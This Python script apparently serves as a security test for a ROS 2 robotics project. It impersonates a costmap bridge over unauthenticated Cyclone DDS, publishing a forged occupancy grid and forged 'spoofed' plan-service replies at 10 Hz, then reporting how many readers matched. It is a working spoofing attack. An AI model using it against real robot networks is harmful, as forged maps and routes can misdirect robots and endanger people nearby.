#!/usr/bin/env python3
"""An attacker on the robots' network: an unauthenticated Eclipse Cyclone DDS
participant that takes the costmap bridge's place.

Eclipse Cyclone DDS from Python (`cyclonedds` on PyPI, no security plugins) and
nothing of isochron, on the bridge's DDS names:

  * a forged nav_msgs/OccupancyGrid on `rt<--topic>` (reliable, transient-local,
    as the bridge's): a 7x5 grid of cells at 100 in frame "forged";
  * forged isochron_msgs/srv/PlanNow replies on `rr<--service>Reply`, in
    rmw_fastrtps's layout (the bare response, no header): status 0, message
    "spoofed", a route "spoofed" of cost 0.

It writes both at 10 Hz for --seconds, then prints {"kind": "spoofed", "count":
N, "grid_matched": M, "reply_matched": R} (M, R: readers its writers matched).
DDS stays on the loopback interface, as costmap_listener.py.

Usage: robot_spoofer.py --domain D [--topic /isochron/activity_costmap]
       [--service /isochron/plan_now] [--seconds S]
"""

import argparse
import time

from ros2_dds import absolute, configure, emit, reliable_qos, ros_type


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--domain", type=int, required=True)
    parser.add_argument("--topic", default="/isochron/activity_costmap")
    parser.add_argument("--service", default="/isochron/plan_now")
    parser.add_argument("--seconds", type=float, default=5.0)
    args = parser.parse_args()

    configure()

    from cyclonedds.domain import DomainParticipant
    from cyclonedds.idl.types import float32, float64, int8, int32, sequence, uint8, uint16, uint32
    from cyclonedds.pub import DataWriter
    from cyclonedds.topic import Topic

    Time = ros_type("builtin_interfaces/msg/Time", sec=int32, nanosec=uint32)
    Header = ros_type("std_msgs/msg/Header", stamp=Time, frame_id=str)
    Point = ros_type("geometry_msgs/msg/Point", x=float64, y=float64, z=float64)
    Quaternion = ros_type("geometry_msgs/msg/Quaternion", x=float64, y=float64, z=float64, w=float64)
    Pose = ros_type("geometry_msgs/msg/Pose", position=Point, orientation=Quaternion)
    MapMetaData = ros_type(
        "nav_msgs/msg/MapMetaData",
        map_load_time=Time, resolution=float32, width=uint32, height=uint32, origin=Pose,
    )
    OccupancyGrid = ros_type(
        "nav_msgs/msg/OccupancyGrid", header=Header, info=MapMetaData, data=sequence[int8],
    )
    RouteCost = ros_type(
        "isochron_msgs/msg/RouteCost",
        route=str, cost2=float64, cost1=float64, short_term=float64, infinite=bool, estimated=bool,
        no_long_term=bool,
    )
    PlanNowResponse = ros_type(
        "isochron_msgs/srv/PlanNow_Response",
        status=uint8, message=str, t_star=uint16, routes=sequence[RouteCost],
    )

    stamp = Time(sec=int(time.time()), nanosec=0)
    pose = Pose(position=Point(x=0.0, y=0.0, z=0.0), orientation=Quaternion(x=0.0, y=0.0, z=0.0, w=1.0))
    grid = OccupancyGrid(
        header=Header(stamp=stamp, frame_id="forged"),
        info=MapMetaData(map_load_time=stamp, resolution=0.1, width=7, height=5, origin=pose),
        data=[100] * 35,
    )
    reply = PlanNowResponse(
        status=0, message="spoofed", t_star=0,
        routes=[RouteCost(route="spoofed", cost2=0.0, cost1=0.0, short_term=0.0, infinite=False,
                          estimated=False, no_long_term=False)],
    )

    participant = DomainParticipant(args.domain)
    grid_writer = DataWriter(
        participant, Topic(participant, "rt" + absolute(args.topic), OccupancyGrid),
        qos=reliable_qos(latched=True, depth=1),
    )
    reply_writer = DataWriter(
        participant, Topic(participant, "rr" + absolute(args.service) + "Reply", PlanNowResponse),
        qos=reliable_qos(latched=False, depth=10),
    )
    count, grid_matched, reply_matched = 0, 0, 0
    end_at = time.monotonic() + args.seconds
    while time.monotonic() < end_at:
        grid_matched = max(grid_matched, len(grid_writer.get_matched_subscriptions()))
        reply_matched = max(reply_matched, len(reply_writer.get_matched_subscriptions()))
        grid_writer.write(grid)
        reply_writer.write(reply)
        count += 1
        time.sleep(0.1)
    emit({"kind": "spoofed", "count": count, "grid_matched": grid_matched,
          "reply_matched": reply_matched})


if __name__ == "__main__":
    main()
